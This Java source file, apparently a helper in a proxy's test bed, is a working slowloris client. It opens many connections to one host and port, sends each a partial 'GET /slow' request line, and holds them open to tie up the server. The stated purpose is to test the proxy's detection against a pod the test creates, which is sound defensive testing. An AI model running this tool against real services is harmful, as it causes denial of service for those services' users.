package dev.portolan.proxy.peers;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * A slowloris client for the test bed: opens {@code count} connections to one address (a pod the
 * test made), sends each a partial HTTP request line ({@code GET /slow}, too short for detection to
 * decide) and holds them all, never reading, for {@code holdSeconds}. Prints {@code slowloris
 * holding N of M} once all are open.
 *
 * <p>Arguments: host port count holdSeconds
 */
public final class Slowloris {
  private Slowloris() {}

  public static void main(String[] args) throws Exception {
    String host = args[0];
    int port = Integer.parseInt(args[1]);
    int count = Integer.parseInt(args[2]);
    long holdSeconds = Long.parseLong(args[3]);
    byte[] partial = "GET /slow".getBytes(StandardCharsets.US_ASCII);
    List<Socket> held = new ArrayList<>(count);
    int failed = 0;
    for (int i = 0; i < count; i++) {
      Socket s = new Socket();
      try {
        s.connect(new InetSocketAddress(host, port), 5_000);
        s.getOutputStream().write(partial);
        held.add(s);
      } catch (IOException e) {
        failed++;
        s.close();
      }
      if ((i + 1) % 2_000 == 0) {
        System.out.println("slowloris opened " + (i + 1));
      }
    }
    System.out.println(
        "slowloris holding " + held.size() + " of " + count + " (" + failed + " failed)");
    Thread.sleep(holdSeconds * 1_000);
    for (Socket s : held) {
      s.close();
    }
    System.out.println("slowloris done");
  }
}
